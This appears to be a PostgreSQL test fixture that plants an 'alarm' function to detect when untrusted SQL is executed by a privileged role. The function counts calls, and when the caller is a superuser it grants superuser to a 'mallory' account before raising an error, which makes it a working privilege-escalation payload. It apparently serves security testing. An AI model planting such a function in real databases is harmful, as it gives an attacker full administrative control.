-- What rings when planted SQL is called: to be set once, by the person who plants.
CREATE SCHEMA alarm;
CREATE SEQUENCE alarm.rung MINVALUE 0;
CREATE FUNCTION alarm.ring() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  PERFORM pg_catalog.nextval('alarm.rung'); -- stays when the transaction does not
  IF (SELECT rolsuper FROM pg_catalog.pg_roles
       WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
    EXECUTE 'ALTER ROLE "mallory@example.com" SUPERUSER';
  END IF;
  RAISE EXCEPTION 'planted SQL ran as %', current_user;
END $$;
GRANT USAGE ON SCHEMA alarm TO PUBLIC;
GRANT USAGE ON SEQUENCE alarm.rung TO PUBLIC;
